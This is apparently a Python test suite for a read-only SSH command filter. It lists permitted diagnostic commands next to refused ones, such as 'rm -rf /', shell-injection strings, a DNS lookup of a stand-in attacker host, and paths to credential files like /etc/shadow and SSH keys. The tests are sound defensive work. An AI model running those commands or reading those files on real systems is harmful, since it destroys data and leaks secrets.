"""Which commands ssh.exec.peek lets through."""

import shlex
import subprocess
from contextlib import suppress

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from orchestrator.errors import InvalidInput
from orchestrator.intents.ssh_policy import FORBIDDEN, LONGEST, quoted, read_only
from orchestrator.intents.ssh_programs import PROGRAMS

ANY_TEXT = st.text(st.characters(exclude_categories=[]), max_size=40)
PROGRAM = st.sampled_from(sorted(PROGRAMS))

ALLOWED = [
    "uptime",
    "df -h",
    "ls -la /var/log",
    "/usr/bin/ls -l",
    "cat /etc/hostname",
    "cat '/var/log/my app.log'",
    "tail -n 100 /var/log/syslog",
    "grep -ri error /var/log/app",
    "find /var/log -name *.log -mtime -1",
    "ps aux",
    "date +%F",
    "date -u",
    "journalctl -u nginx -n 50 --no-pager",
    "journalctl --unit=nginx --since yesterday",
    "systemctl status nginx",
    "systemctl is-active nginx",
    "systemctl list-units --type service --no-pager",
    "docker ps -a",
    "docker logs --tail 20 web",
    "ss -tlnp",
    "ip -br addr",
    "ip route show",
    "hostname -f",
    "dmesg -T -l err",
    "getent passwd deploy",
    "getent services",
    "ps",
    "ps -ef",
    "ps auxww --sort=-%mem",
    "ps -eo pid,user,args --sort=-rss",
    "ps -p 1,2 -o etime",
    "docker top web",
    "cat /etc/passwd",
    "cat /srv/app/environments.md",
    "grep -i shadow /etc/nsswitch.conf",
    "grep -rn keynote /srv/notes",
]

REFUSED = [
    "",
    "   ",
    "rm -rf /",
    "sudo ls",
    "sh -c ls",
    "env ls",
    "FOO=bar ls",
    "./ls",
    "~/ls",
    "/home/x/ls",
    "/opt/evil/cat x",
    "/usr/bin/../../tmp/ls",
    "ls; rm x",
    "ls && rm x",
    "ls | sh",
    "ls $(rm x)",
    "ls `rm x`",
    "cat $HOME",
    "cat <x",
    "ls >x",
    "ls\nrm x",
    "ls\rrm x",
    "ls\x00",
    "ls 'unclosed",
    "ls ';'",
    "find / -delete",
    "find / -exec rm {} +",
    "find / -execdir rm {} +",
    "find / -ok rm {} +",
    "find / -fprintf /etc/passwd x",
    "find / -fls /tmp/x",
    "tail -f /var/log/syslog",
    "tail -n5 -F x",
    "tail -qf x",
    "tail --follow=name x",
    "tail --fol x",
    "journalctl -f",
    "journalctl --vacuum-size=1M",
    "journalctl --vac 1M",
    "journalctl -n --vacuum-size=1M",
    "journalctl --rotate",
    "journalctl --cursor-file=/etc/x",
    "systemctl stop nginx",
    "systemctl",
    "systemctl -H other status",
    "systemctl status -H other",
    "systemctl --no-pager stop nginx",
    "docker rm web",
    "docker -H tcp://other ps",
    "docker logs -f web",
    "docker exec web sh",
    "docker run x",
    "date -s 2020-01-01",
    "date 010100002020",
    "date -u 010100002020",
    "date -- 010100002020",
    "hostname other",
    "hostname -F /tmp/x",
    "dmesg -C",
    "dmesg --clear",
    "ss -K",
    "ss -tK",
    "ss --kill",
    "ss -D /tmp/x",
    "ip link set eth0 down",
    "ip addr add 10.0.0.1/8 dev eth0",
    "ip -batch /tmp/x",
    "ip netns exec x sh",
    "file -C -m x",
    "file --comp",
    "free -s 1",
    "getent",
    "getent hosts my-secret.attacker.example",
    "getent ahosts x",
    "getent shadow",
    "getent -s dns passwd x",
    "getent passwd -s dns",
    "docker inspect web",
    "docker top web eww",
    "docker top",
    "ps e",
    "ps auxe",
    "ps -auxe",
    "ps -axe",
    "ps -e aux",
    "ps -ef -axo pid,args",
    "ps -x -eo pid,args",
    "ps '-ef --sort=time'",
    "ps -o pid,environ",
    "ps -u xe",
]

SECRETS = [
    "/etc/shadow",
    "/etc/shadow-",
    "/etc//./shadow",
    "/etc/ssh/../gshadow",
    "/proc/1/environ",
    "/proc/self/task/1/../../environ",
    "/dev/fd/../environ",
    "/home/ops/.ssh/id_ed25519",
    "/home/ops/.ssh",
    ".ssh/config",
    ".SSH/config",
    "../deploy/.ssh/authorized_keys",
    "/srv/app/.env",
    "/srv/app/.env.production",
    "/srv/app/prod.env",
    "server.pem",
    "/etc/ssl/private/x",
    "/etc/ssh/ssh_host_ed25519_key",
    "id_rsa",
    "backup/id_ecdsa.old",
    "/run/secrets/db",
    "/home/ops/.aws/credentials",
    "/home/ops/.bash_history",
    "--file=/home/ops/.ssh/id_rsa",
    "-f.ssh/id_rsa",
    "-rf/etc/shadow",
    "--include=prod.env",
    "--files0-from=.netrc",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_commands_that_only_read_are_accepted(command: str) -> None:
    assert read_only(command) == shlex.split(command)


@pytest.mark.parametrize("command", REFUSED)
def test_commands_that_may_do_more_are_refused_with_a_way_out(command: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        read_only(command)
    assert caught.value.field == "inputs.command"
    assert "ssh.exec" in str(caught.value.hint)


@pytest.mark.parametrize("path", SECRETS)
@pytest.mark.parametrize("program", ["cat", "grep -r x", "ls", "find", "/usr/bin/stat"])
def test_files_that_hold_secrets_are_not_read(program: str, path: str) -> None:
    with pytest.raises(InvalidInput):
        read_only(f"{program} {path}")


@given(st.text("ab./-=", max_size=12), st.sampled_from(["/etc/shadow", "/.ssh/x", "/x.pem"]), st.booleans())
def test_whatever_stands_before_a_secret_does_not_hide_it(before: str, secret: str, dashed: bool) -> None:
    path = f"{'-' * dashed}{before}{secret}"
    with pytest.raises(InvalidInput, match=r"may hold secrets|is not allowed"):
        read_only(f"cat {path}")


def test_a_very_long_command_is_refused() -> None:
    with pytest.raises(InvalidInput, match="longer"):
        read_only("echo " + "x" * LONGEST)


@given(program=PROGRAM, start=ANY_TEXT, forbidden=st.sampled_from(sorted(FORBIDDEN)), end=ANY_TEXT)
def test_no_forbidden_character_gets_through_wherever_it_stands(
    program: str, start: str, forbidden: str, end: str
) -> None:
    with pytest.raises(InvalidInput):
        read_only(f"{program} {start}{forbidden}{end}")


@given(program=PROGRAM, rest=ANY_TEXT)
def test_what_is_accepted_holds_nothing_forbidden_and_is_sent_as_the_same_words(
    program: str, rest: str
) -> None:
    try:
        words = read_only(f"{program} {rest}")
    except InvalidInput:
        assume(False)
        return
    line = quoted(words)
    assert shlex.split(line) == words
    assert FORBIDDEN.isdisjoint("".join(words))
    assert all(word.isprintable() or "\t" in word for word in words)


def test_a_real_shell_reads_the_line_as_the_same_words() -> None:
    words = [
        "echo",
        "*",
        "~",
        "{a,b}",
        "a b",
        "",
        "#",
        "!x",
        "[a-z]",
        "?",
        "'",
        '"',
        "\t",
        "é",
        "-n",
        "%s",
        "x=y",
    ]
    line = quoted(["printf", "%s\\0", *words])
    done = subprocess.run(["/bin/sh", "-c", line], capture_output=True, check=True, timeout=10)
    assert done.stdout.decode().split("\0")[:-1] == words


@given(st.text(max_size=60))
def test_any_text_is_accepted_or_refused_and_never_breaks(command: str) -> None:
    with suppress(InvalidInput):
        assert read_only(command)
